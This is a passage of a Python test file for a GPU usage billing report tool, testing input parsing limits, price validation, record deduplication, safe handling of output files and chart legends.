    (tmp_path / "in.csv").write_text(_csv_text(_window("GPU-1")))
    span = ["--from", "0300-01-01", "--to", "2026-01-02"]
    bills = [
        hami("report", *span, "--parquet", tmp_path / "pq"),
        hami("report", *span, "--csv", tmp_path / "in.csv"),
    ]
    assert [p.returncode for p in bills] == [0, 0], [p.stderr for p in bills]
    tables = [p.stdout.split("\nreserved idle:")[0] for p in bills]
    assert tables[0] == tables[1]
    assert "ns" in tables[0] and "0.016667" in tables[0]  # the container's minute


def test_a_record_nested_a_thousand_levels_deep_is_one_line_and_exit_1(tmp_path: Path) -> None:
    """msgspec raises RecursionError for such a value: a traceback of 34 lines, exit 1."""
    deep = "[" * 2000 + "]" * 2000
    line = msgspec.json.decode(jsonl_line(_window("GPU-1")[0]))
    jsonl = tmp_path / "deep.jsonl"
    jsonl.write_bytes(msgspec.json.encode(line)[:-1] + b',"x":' + deep.encode() + b"}\n")
    rows = _csv_text(_window("GPU-1")).splitlines()
    header = next(csv.reader([rows[0]]))
    cells = next(csv.reader([rows[1]]))
    cells[header.index("labels")] = deep
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([header, cells])
    (tmp_path / "deep.csv").write_text(buf.getvalue())
    for flag, path, where in (("--jsonl", jsonl, 1), ("--csv", tmp_path / "deep.csv", 2)):
        proc = hami("report", *SPAN, flag, path)
        expected = f"hami-usage report: {path}:{where}: not a billing record: nested too deeply\n"
        assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


def test_a_price_of_too_many_digits_or_an_overlong_integer_is_refused_naming_the_file() -> None:
    """A million digits made the exact arithmetic take 52 s where 15 took 0.46 s; an integer
    over Python's 4300 digits was a ValueError whose line did not name the prices file."""
    with pytest.raises(PriceError) as caught:
        Prices.parse("default = 2." + "7" * 60, "prices p.toml")
    assert str(caught.value) == "prices p.toml: default: more than 60 significant digits"
    assert Prices.parse("default = 2." + "7" * 59).default == Decimal("2." + "7" * 59)
    with pytest.raises(PriceError) as caught:
        Prices.parse("default = " + "1" * 4301, "prices p.toml")
    assert str(caught.value).startswith("prices p.toml: Exceeds the limit (4300 digits)")


def test_an_input_named_as_an_outputs_temporary_file_is_left_alone(tmp_path: Path) -> None:
    """Each output was written to `<output>.part` and renamed over the output: with `--csv
    usage.csv.part --out-csv usage.csv` the records were overwritten with the bill and renamed
    away, exit 0."""
    records = tmp_path / "usage.csv.part"
    records.write_text(_csv_text(_window("GPU-1")))
    before = records.read_bytes()
    out = tmp_path / "usage.csv"
    proc = hami("report", *SPAN, "--csv", records, "--out-csv", out)
    assert proc.returncode == 0, proc.stderr
    assert records.read_bytes() == before
    assert out.read_text().startswith("kind,")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["usage.csv", "usage.csv.part"]


def test_a_record_read_more_than_once_is_billed_once_the_last_one_read(tmp_path: Path) -> None:
    """A second aggregator group writing to the same outputs writes every window again (same
    record_id): the CSV, JSON Lines and Parquet inputs each doubled the bill (12.00 for 6.00
    in a review's run); only `--kafka` kept one per record_id. Every input keeps the last one
    read now, across inputs too."""
    once, twice = _window("GPU-1"), _window("GPU-1", alloc_ms=30_000)  # same ids, less later
    assert [r.record_id for r in once] == [r.record_id for r in twice]
    (tmp_path / "once.csv").write_text(_csv_text(once))
    (tmp_path / "twice.csv").write_text(_csv_text(once + twice))
    (tmp_path / "twice.jsonl").write_bytes(b"".join(jsonl_line(r) for r in once + twice))
    for name, parts in (("pq-once", [twice]), ("pq-twice", [once, twice])):
        for i, part in enumerate(parts):  # two groups' replicas, parts of their own
            sink = ParquetSink(tmp_path / name, instance=str(i))
            sink.write(part)
            sink.close()

    def allocated(*source: object) -> str:
        out = tmp_path / "bill.csv"
        proc = hami("report", *SPAN, *map(str, source), "--out-csv", out)
        assert proc.returncode == 0, proc.stderr
        (row,) = [r for r in csv.DictReader(out.open()) if r["kind"] == "group"]
        return str(row["gpu_hours_allocated"])

    half, whole = "0.008333", "0.016667"  # the later copy's 30 s, the earlier's 60 s
    assert allocated("--csv", tmp_path / "once.csv") == whole
    assert allocated("--csv", tmp_path / "twice.csv") == half
    assert allocated("--jsonl", tmp_path / "twice.jsonl") == half
    assert allocated("--parquet", tmp_path / "pq-twice") == half
    assert allocated("--csv", tmp_path / "once.csv", "--jsonl", tmp_path / "twice.jsonl") == half
    # a record in a Parquet folder and in a file: the file's (read after it)
    assert allocated("--parquet", tmp_path / "pq-once", "--csv", tmp_path / "once.csv") == whole


def test_a_group_called_other_is_its_own_bar_and_the_charts_draw_the_largest(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The chart over time stacked the groups outside its top 8 under the name "other", a
    namespace's name too: namespace `other` drew 60 s, its own 50 s and ns8's 10 s, and ns8 was
    named nowhere. The per-group charts drew the bill's first 15 lines, by cost: without
    prices every cost is 0, so the first 15 names, and a group with the most GPU-hours was
    left out."""
    figs: list[Any] = []
    monkeypatch.setattr(html_report, "_svg", lambda fig: figs.append(fig) or "")
    names = ["other", *(f"ns{i}" for i in range(15)), "zz-train"]
    records: list[BillingRecord] = []
    for i, name in enumerate(names):
        alloc = 60_000 if name == "zz-train" else 50_000 if name == "other" else 1_000 + i
        records += [
            msgspec.structs.replace(r, namespace=name) if r.pod_uid else r
            for r in _window(f"GPU-{i}", alloc_ms=alloc)
        ]
    _page(records)
    (over_time,) = [f for f in figs if "over time" in f.axes[0].get_title()]
    legend = [t.get_text() for t in over_time.axes[0].get_legend().get_texts()]
    assert legend[:2] == ["zz-train", "other"] and legend[-1] == "other (9 groups)"
    heights = {t: p.get_height() for t, p in zip(legend, over_time.axes[0].patches, strict=True)}
    assert heights["other"] == pytest.approx(50 / 3600)
    (vs_used,) = [f for f in figs if "Allocated against used" in f.axes[0].get_title()]
    ax = vs_used.axes[0]
    assert ax.get_title().endswith("(the 15 largest of 17 by allocation)")
    shown = [t.get_text() for t in ax.get_yticklabels()]
    assert "zz-train" in shown and "other" in shown and len(shown) == 15
